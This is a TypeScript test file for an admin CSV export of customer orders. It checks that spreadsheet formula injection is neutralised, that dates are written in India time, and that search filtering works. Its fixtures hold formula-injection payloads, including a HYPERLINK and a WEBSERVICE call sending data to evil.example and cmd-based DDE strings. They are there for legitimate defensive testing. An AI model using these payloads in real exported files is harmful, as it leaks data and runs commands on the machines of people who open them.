import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import { beforeEach, describe, expect, it } from 'vitest';
import { createOrder } from '../../../test/support/factories';
import { orders } from '../../db/schema';
import { CSV_COLUMNS, neutralise } from './orders-csv';
import { signInAdmin, useTestApp } from '../../../test/support/use-test-app';

let adminHeaders: Record<string, string>;

const { ctx } = useTestApp();
beforeEach(async () => {
  adminHeaders = await signInAdmin(ctx);
});

/** What a spreadsheet runs as a formula when a cell starts with it (OWASP). */
const FORMULA_START = /^[=+\-@\t\r]/;
/** A phone number or a plain number, kept as written: as a formula it is arithmetic on numbers only. */
const PLAIN_NUMBER = /^[+-]?\d[\d ().-]*$/;

/** The values a customer or an admin can type into an order, each a formula in some reader. */
const HOSTILE = {
  contactName: 'ok;=1+1',
  contactPhone: '+91 98300 98300',
  addressLine1: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  addressLine2: 'Flat 2, @SUM(A1)',
  landmark: "near the mosque\t=cmd|' /C calc'!A0",
  city: " -2+3+cmd|' /C calc'!A0",
  trackingNumber: '\r=1+1',
  trackingUrl: 'https://track.example/x;+WEBSERVICE("http://evil.example")',
};

async function hostileOrder() {
  const order = await createOrder(ctx.database.db, {
    contactName: HOSTILE.contactName,
    items: [
      { name: 'Riyad as-Salihin', price: 350, quantity: 1 },
      { name: '=IMPORTXML("http://evil.example","//a")', price: 100, quantity: 2 },
      { name: '-Tafsir', price: 100, quantity: 1 },
    ],
  });
  await ctx.database.db
    .update(orders)
    .set({
      contactPhone: HOSTILE.contactPhone,
      shippingAddress: {
        addressLine1: HOSTILE.addressLine1,
        addressLine2: HOSTILE.addressLine2,
        landmark: HOSTILE.landmark,
        city: HOSTILE.city,
        state: 'West Bengal',
        pincode: '700016',
      },
      trackingNumber: HOSTILE.trackingNumber,
      trackingUrl: HOSTILE.trackingUrl,
    })
    .where(eq(orders.id, order.id));
  return order;
}

async function exportCsv(): Promise<string> {
  const res = await ctx.app.inject({ url: '/api/orders/admin/export-csv', headers: adminHeaders });
  expect(res.statusCode).toBe(200);
  return res.body.replace(/^\uFEFF/, '');
}

/** Where a reader would start a cell with something it runs, or an empty list. */
function formulaCells(cells: string[]): string[] {
  return cells.filter((cell) => {
    // A reader that ignores quotes sees them as part of the cell; one that trims spaces sees what follows.
    const raw = cell.replace(/^"/, '');
    if (/^[\t\r]/.test(raw)) return true;
    const text = raw.replace(/^ +/, '').replace(/"$/, '');
    return FORMULA_START.test(text) && !PLAIN_NUMBER.test(text);
  });
}

describe('the CSV export against formula injection', () => {
  it('round-trips through a CSV reader: formulas turned to text, the phone number kept as written', async () => {
    const order = await hostileOrder();
    const rows = parse(await exportCsv(), { relax_column_count: false });
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    const row = Object.fromEntries(CSV_COLUMNS.map((name, i) => [name, rows[1]![i]]));
    expect(row).toMatchObject({
      'Order Number': order.orderNumber,
      'Customer Name': "ok;'=1+1",
      Phone: '+91 98300 98300',
      Items: 'Riyad as-Salihin x1; \'=IMPORTXML("http://evil.example","//a") x2; \'-Tafsir x1',
      Address: `'=HYPERLINK("http://evil.example/?leak="&A1,"click"), Flat 2, '@SUM(A1), near the mosque\t'=cmd|' /C calc'!A0`,
      City: " '-2+3+cmd|' /C calc'!A0",
      'Tracking Number': "'\r'=1+1",
      'Tracking URL': 'https://track.example/x;\'+WEBSERVICE("http://evil.example")',
      Total: '750.00',
    });
  });

  for (const delimiter of [',', ';', '\t']) {
    for (const quote of ['"', false] as const) {
      const reader = `${JSON.stringify(delimiter)} as the delimiter, ${quote ? 'quotes honoured' : 'quotes ignored'}`;
      it(`no cell starts a formula when read with ${reader}`, async () => {
        await hostileOrder();
        const rows = parse(await exportCsv(), {
          delimiter,
          quote,
          relax_quotes: true,
          relax_column_count: true,
          skip_empty_lines: true,
        });
        expect(rows.length).toBeGreaterThan(1);
        expect(formulaCells(rows.flat())).toEqual([]);
        // The phone number is there as written, for each reader.
        expect(rows.flat().some((cell) => cell.includes('+91 98300 98300'))).toBe(true);
      });
    }
  }

  it('neutralises each piece a reader may take for a cell, and leaves plain numbers and phone numbers', () => {
    const cases: [string, string][] = [
      ['Kolkata', 'Kolkata'],
      ['=1+1', "'=1+1"],
      ['ok;=1+1', "ok;'=1+1"],
      ['ok, =1+1', "ok, '=1+1"],
      ['ok\t@x', "ok\t'@x"],
      ['a\n-x', "a\n'-x"],
      ['\tx', "'\tx"],
      ['\rx', "'\rx"],
      ['+91 98300 98300', '+91 98300 98300'],
      ['+91-98300-98300', '+91-98300-98300'],
      ['-5', '-5'],
      ['(033) 2222 3333', '(033) 2222 3333'],
      ['+1 (800) FLOWERS', "'+1 (800) FLOWERS"],
      ['-1+1', "'-1+1"],
      ['Dar; +91 98300 98300', 'Dar; +91 98300 98300'],
      ['', ''],
    ];
    for (const [value, expected] of cases) expect(neutralise(value), JSON.stringify(value)).toBe(expected);
  });
});

describe('the CSV export in India time', () => {
  it('writes each moment in IST with its offset, so that an order at 00:47 IST is on its own day', async () => {
    // 19:17 UTC on the 23rd is 00:47 on the 24th in India.
    const order = await createOrder(ctx.database.db, {
      createdAt: new Date('2026-11-23T19:17:05Z'),
      items: [{ name: 'Riyad as-Salihin', price: 350, quantity: 1 }],
    });
    await ctx.database.db
      .update(orders)
      .set({
        status: 'delivered',
        shippedAt: new Date('2026-11-24T20:00:00Z'),
        deliveredAt: new Date('2026-11-26T04:15:00Z'),
      })
      .where(eq(orders.id, order.id));
    const rows = parse(await exportCsv());
    const row = Object.fromEntries(CSV_COLUMNS.map((name, i) => [name, rows[1]![i]]));
    expect(row).toMatchObject({
      'Order Number': order.orderNumber,
      Date: '2026-11-24T00:47:05+05:30',
      'Shipped At': '2026-11-25T01:30:00+05:30',
      'Delivered At': '2026-11-26T09:45:00+05:30',
    });
    expect(new Date(row.Date!).toISOString()).toBe('2026-11-23T19:17:05.000Z');
  });
});

describe('the CSV export of a search', () => {
  it('holds the orders the desk shows for that search, and every order without one', async () => {
    const found = await createOrder(ctx.database.db, {
      contactName: 'Zainab Qureshi',
      items: [{ name: 'Riyad as-Salihin', price: 350, quantity: 1 }],
    });
    await createOrder(ctx.database.db, {
      contactName: 'Ahmad Khan',
      items: [{ name: 'Riyad as-Salihin', price: 350, quantity: 1 }],
    });
    const numbers = async (query: string) => {
      const res = await ctx.app.inject({
        url: `/api/orders/admin/export-csv${query}`,
        headers: adminHeaders,
      });
      expect(res.statusCode).toBe(200);
      return parse(res.body.replace(/^\uFEFF/, ''))
        .slice(1)
        .map((row) => row[0]);
    };
    expect(await numbers('?search=qureshi')).toEqual([found.orderNumber]);
    expect(await numbers('?search=%20')).toHaveLength(2);
    expect(await numbers('')).toHaveLength(2);
    const tooLong = await ctx.app.inject({
      url: `/api/orders/admin/export-csv?search=${'x'.repeat(101)}`,
      headers: adminHeaders,
    });
    expect(tooLong.statusCode).toBe(400);
  });
});
